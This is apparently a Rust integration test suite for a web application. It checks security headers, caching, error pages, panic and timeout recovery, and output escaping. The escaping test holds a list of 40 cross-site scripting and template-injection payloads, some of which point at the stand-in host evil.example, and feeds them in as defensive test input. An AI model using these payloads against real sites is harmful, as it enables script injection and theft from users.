//! What holds for every answer: headers, caching, text that stays text, mistakes that stay small.
use crate::{
    harness::{Actor, Answer, TestApp},
    routes::{ask, filled, ids},
    stories,
};
use axum::{
    body::Body,
    http::{Method, Request, StatusCode},
    routing::{get, post},
};
use std::{collections::BTreeMap, time::Duration};
use tributary::{
    app::App,
    config::Web,
    web::{
        routes::{Access, router, table},
        server,
    },
};

/// What no answer goes without.
pub const EVERYWHERE: [&str; 10] = [
    "content-security-policy",
    "strict-transport-security",
    "x-content-type-options",
    "x-frame-options",
    "referrer-policy",
    "cross-origin-opener-policy",
    "cross-origin-resource-policy",
    "cross-origin-embedder-policy",
    "permissions-policy",
    "x-request-id",
];

fn has_all_headers(url: &str, answer: &Answer) {
    for name in EVERYWHERE {
        assert!(!answer.header(name).is_empty(), "{url} {}: no {name}", answer.status);
    }
    let csp = answer.header("content-security-policy");
    assert!(!csp.contains("unsafe-") && csp.contains("default-src 'none'"), "{csp}");
    assert!(answer.headers.get("server").is_none() && answer.headers.get("x-powered-by").is_none());
    let kind = answer.header("content-type");
    assert!(!kind.starts_with("text/html") || kind == "text/html; charset=utf-8", "{url}: {kind}");
    for trace in ["panicked at", "src/", "stack backtrace", "SELECT ", "sqlx"] {
        assert!(
            answer.status.is_success() || !answer.body.contains(trace),
            "{url}: {}",
            answer.body
        );
    }
}

/// One answer of each error that the product gives by itself.
async fn errors(app: &TestApp) -> Vec<(u16, Answer)> {
    let mut clerk = app.actor("clerk", "alpha").await;
    let mut nobody = app.nobody();
    let order = crate::orders::new_order(&mut clerk, "1").await;
    let stale = clerk.get(&format!("{order}/edit")).await.form("#order-form");
    let stale = crate::harness::changed(stale, &[("customer", "C-00002")]);
    clerk
        .submit(&format!("{order}/edit"), "#order-form", &[("customer", "C-00003")])
        .await
        .expect(303);
    let same_site = |r: axum::http::request::Builder| {
        r.header("sec-fetch-site", "same-origin")
            .header("content-type", "application/x-www-form-urlencoded")
    };
    let large = same_site(Request::post("/login")).body(Body::from(vec![b'a'; 3 << 20])).unwrap();
    let wrong = Request::post("/alpha/main/orders")
        .header("sec-fetch-site", "same-origin")
        .header("content-type", "application/xml");
    let odd = same_site(Request::post(&order)).body(Body::from("_version=one")).unwrap();
    let method = Request::builder()
        .method(Method::DELETE)
        .uri("/login")
        .header("sec-fetch-site", "same-origin");
    vec![
        (401, nobody.post::<&str, &str>("/alpha/main/orders", &[]).await),
        (403, clerk.get("/admin").await),
        (404, clerk.get("/alpha/main/nothing").await),
        (404, clerk.get("/static/none.css").await),
        (405, clerk.send(method.body(Body::empty()).unwrap()).await),
        (409, clerk.post(&order, &stale).await),
        (413, nobody.send(large).await),
        (415, clerk.send(wrong.body(Body::from("<a/>")).unwrap()).await),
        (422, clerk.send(odd).await),
        (422, nobody.post("/login", &[("email", "x"), ("password", "y")]).await),
    ]
}

stories! {
    async fn every_answer_has_the_whole_set_of_headers(app) {
        let ids = ids(app, "alpha").await;
        let admin = app.actor("admin", "alpha").await;
        for route in table() {
            let url = filled(route.path, "alpha", &ids);
            has_all_headers(&url, &ask(&mut admin.clone(), &route, &url).await);
            has_all_headers(&url, &ask(&mut app.nobody(), &route, &url).await);
        }
        for (status, answer) in errors(app).await {
            assert_eq!(answer.status.as_u16(), status, "{}", answer.body);
            has_all_headers(&status.to_string(), &answer);
        }
    }

    async fn nobody_keeps_a_page_of_a_company(app) {
        let ids = ids(app, "alpha").await;
        let admin = app.actor("admin", "alpha").await;
        for route in table().iter().filter(|r| !matches!(r.access, Access::Open | Access::Public) && r.method == Method::GET) {
            let url = filled(route.path, "alpha", &ids);
            for hx in [false, true] {
                let request = Request::get(&url);
                let request = if hx { request.header("hx-request", "true") } else { request };
                let answer = admin.clone().send(request.body(Body::empty()).unwrap()).await;
                assert_eq!(answer.header("cache-control"), "no-store", "{url}");
                let html = answer.header("content-type").starts_with("text/html");
                let varies = answer.headers.get_all("vary").iter().any(|v| v.to_str().unwrap().contains("HX-Request"));
                assert!(!html || varies, "{url}");
            }
        }
        let page = app.nobody().get("/login").await;
        let files: Vec<String> = page.attrs("link[rel=stylesheet]", "href").into_iter().chain(page.attrs("script", "src")).collect();
        assert!(files.len() >= 2, "{files:?}");
        for file in files {
            let answer = app.nobody().get(&file).await.expect(200);
            assert!(answer.header("cache-control").contains("immutable"), "{file}");
            assert!(file.trim_start_matches("/static/").contains(|c: char| c.is_ascii_digit()), "{file} has no fingerprint");
        }
    }

    async fn what_people_type_never_becomes_part_of_a_page(app) {
        let mut clean = app.actor("clerk", "alpha").await;
        let harmless = skeletons(&mut clean, &harmless_words()).await;
        let evil = skeletons(&mut clean, &PAYLOADS.map(str::to_owned)).await;
        for ((url, good), (_, bad)) in harmless.iter().zip(&evil) {
            let odd: Vec<_> = bad.iter().filter(|e| !good.contains(e)).collect();
            assert_eq!(good.len(), bad.len(), "{url} has other elements with a payload: {odd:?}");
            assert_eq!(good, bad, "{url} has another structure with a payload in its texts");
        }
    }

    async fn a_panic_is_told_as_a_mistake_and_the_next_request_is_served(app) {
        let routes = router(&app.app).route("/boom", get(boom)).route("/boom", post(boom));
        let service = server::around(&app.app, routes);
        let mut browser = Actor::new(service);
        for _ in 0..30 {
            let answer = browser.get("/boom").await;
            assert_eq!(answer.status, 500);
            has_all_headers("/boom", &answer);
            assert!(!answer.body.contains("in a test"), "{}", answer.body);
            assert!(answer.body.contains(answer.header("x-request-id")), "the id to ask for");
            assert_eq!(browser.post::<&str, &str>("/boom", &[]).await.status, 500);
        }
        browser.sign_in("clerk@alpha.example.com", crate::harness::PASSWORD).await;
        browser.get("/alpha/main/orders").await.expect(200);
    }

    async fn a_request_that_does_not_end_is_given_up_and_takes_nothing_with_it(app) {
        let web = Web { request_seconds: 1, ..(*app.app.web).clone() };
        let app = App { web: web.into(), ..app.app.clone() };
        let routes = router(&app).route("/never", get(never));
        let mut browser = Actor::new(server::around(&app, routes));
        let answers = (0..20).map(|_| { let mut b = browser.clone(); async move { b.get("/never").await } });
        for answer in futures_util::future::join_all(answers).await {
            assert_eq!(answer.status, StatusCode::SERVICE_UNAVAILABLE);
            assert!(!answer.header("retry-after").is_empty());
            has_all_headers("/never", &answer);
        }
        let slow = Request::post("/login").header("sec-fetch-site", "same-origin");
        let slow = slow.header("content-type", "application/x-www-form-urlencoded");
        let endless = futures_util::stream::pending::<Result<axum::body::Bytes, std::io::Error>>();
        let answer = browser.send(slow.body(Body::from_stream(endless)).unwrap()).await.expect(408);
        assert!(answer.body.contains("came too slowly"), "{}", answer.body);
        browser.sign_in("clerk@alpha.example.com", crate::harness::PASSWORD).await;
        for _ in 0..20 {
            browser.get("/alpha/main/orders").await.expect(200);
        }
    }

    async fn a_locked_database_is_said_to_be_busy(app) {
        let mut clerk = app.actor("clerk", "alpha").await;
        let before = app.digest("alpha").await;
        let ctx = app.ctx("alpha").await;
        let held = ctx.write().await.unwrap();
        let page = clerk.get("/alpha/main/orders/new").await.expect(200);
        let fields = crate::actor_fields(&page, &[("customer", "C-00001"), ("lines.0.sku", "SKU-00001"), ("lines.0.qty", "1")]);
        let answer = clerk.post("/alpha/main/orders", &fields).await.expect(503);
        assert!(!answer.header("retry-after").is_empty());
        assert!(answer.body.contains("Nothing was changed"), "{}", answer.body);
        drop(held);
        assert_eq!(app.digest("alpha").await, before);
        clerk.post("/alpha/main/orders", &fields).await.expect(303);
    }

    async fn without_its_database_the_process_lives_but_is_not_ready(app) {
        let mut browser = app.nobody();
        assert_eq!((browser.get("/livez").await.status, browser.get("/readyz").await.status), (StatusCode::OK, StatusCode::OK));
        let other = tributary::store::db::Db::open(&app.database.url).await.unwrap();
        other.close().await;
        let down = App { db: other, ..app.app.clone() };
        let mut browser = Actor::new(server::service(&down));
        browser.get("/livez").await.expect(200);
        let answer = browser.get("/readyz").await.expect(503);
        assert!(!answer.body.contains("pool") && !answer.body.contains("sql"), "{}", answer.body);
        let answer = browser.post("/login", &[("email", "a@example.com"), ("password", "b")]).await.expect(503);
        assert!(!answer.header("retry-after").is_empty());
        has_all_headers("/login", &answer);
    }
}

async fn boom() {
    panic!("in a test");
}

async fn never() {
    tokio::time::sleep(Duration::from_mins(10)).await;
}

const PAYLOADS: [&str; 40] = [
    "<script>m()</script>",
    "\"><script>m()</script>",
    "'><script>m()</script>",
    "</title><script>m()</script>",
    "</textarea><script>m()</script>",
    "</option></select><img src=x onerror=m()>",
    "<img src=x onerror=m()>",
    "<svg onload=m()>",
    "<svg><script>m()</script></svg>",
    "<math><mi xlink:href=javascript:m()>",
    "<iframe srcdoc='<script>m()</script>'>",
    "<a href=javascript:m()>x</a>",
    "javascript:m()",
    "data:text/html,<script>m()</script>",
    "\" onmouseover=\"m()",
    "' onmouseover='m()",
    "x onmouseover=m()",
    "\" autofocus onfocus=\"m()",
    "\" style=\"background:url(//evil.example)",
    "<style>@import '//evil.example'</style>",
    "<link rel=stylesheet href=//evil.example>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><input name=a>",
    "<div hx-get=//evil.example hx-trigger=load>",
    "\" hx-get=\"/logout\" hx-trigger=\"load",
    "\" hx-on:click=\"m()",
    "<div data-hx-get=//evil.example>",
    "<div hx-on::load=m()>",
    "<div x-init=m()>",
    "<div x-html=m()>",
    "{{ 7 * 7 }}",
    "{% include \"x\" %}",
    "${m()}",
    "<!--",
    "-->",
    "<![CDATA[",
    "&lt;script&gt;m()&lt;/script&gt;",
    "&#60;script&#62;m()",
    "<\u{ff1c}script\u{ff1e}m()",
];

fn harmless_words() -> Vec<String> {
    (0..PAYLOADS.len()).map(|i| format!("harmless{i}")).collect()
}

/// Every page that shows records whose texts are the given ones, as tags and attribute names.
async fn skeletons(clerk: &mut Actor, texts: &[String]) -> Vec<(String, Vec<String>)> {
    let text = |i: usize| texts[i % texts.len()].as_str();
    let mut out = BTreeMap::new();
    for i in 0..PAYLOADS.len() / 8 {
        let unique = format!("{}-{i}", if text(0).starts_with("harmless") { "H" } else { "E" });
        let customer = [
            ("number", unique.as_str()),
            ("name", text(i * 8)),
            ("legal_name", text(i * 8 + 1)),
            ("phone", text(i * 8 + 2)),
            ("note", text(i * 8 + 3)),
        ];
        let made =
            clerk.submit("/alpha/main/customers/new", "#record-form", &customer).await.expect(303);
        let url = made.header("location").to_owned();
        let changed = [("name", text(i * 8 + 4)), ("note", text(i * 8 + 5))];
        clerk.submit(&format!("{url}/edit"), "#record-form", &changed).await.expect(303);
        let order = [
            ("customer", unique.as_str()),
            ("customer_po", text(i * 8 + 6)),
            ("internal_note", text(i * 8 + 7)),
            ("customer_note", text(i * 8)),
            ("lines.0.name", text(i * 8 + 1)),
            ("lines.0.qty", "1"),
            ("lines.0.unit_price", "1"),
        ];
        let made = clerk.submit("/alpha/main/orders/new", "#order-form", &order).await.expect(303);
        let order = made.header("location").to_owned();
        let wrong = [("customer_po", text(i * 8 + 2)), ("lines.0.qty", text(i * 8 + 3))];
        let refused =
            clerk.submit(&format!("{order}/edit"), "#order-form", &wrong).await.expect(422);
        out.insert(format!("{i} refused"), skeleton(&refused));
        let query: String = form_urlencoded::byte_serialize(text(i * 8).as_bytes()).collect();
        for (what, url) in [
            ("customer", url.clone()),
            ("customer edit", format!("{url}/edit")),
            ("order", order.clone()),
            ("order edit", format!("{order}/edit")),
            ("orders", format!("/alpha/main/orders?q={}&none={query}", unique.to_lowercase())),
            ("commit", last_commit(clerk).await),
            ("no match", format!("/alpha/main/orders?q=zzz{query}")),
        ] {
            out.insert(format!("{i} {what}"), skeleton(&clerk.get(&url).await.expect(200)));
        }
    }
    out.into_iter().collect()
}

async fn last_commit(clerk: &mut Actor) -> String {
    clerk.get("/alpha/main/commits").await.expect(200).attrs(".row-a", "href").remove(0)
}

fn skeleton(answer: &Answer) -> Vec<String> {
    let page = answer.page();
    let elements = page.tree.nodes().filter_map(|n| n.value().as_element());
    elements
        .map(|e| {
            let mut names: Vec<&str> = e.attrs().map(|(n, _)| n).collect();
            names.sort_unstable();
            format!("{} {}", e.name(), names.join(" "))
        })
        .collect()
}
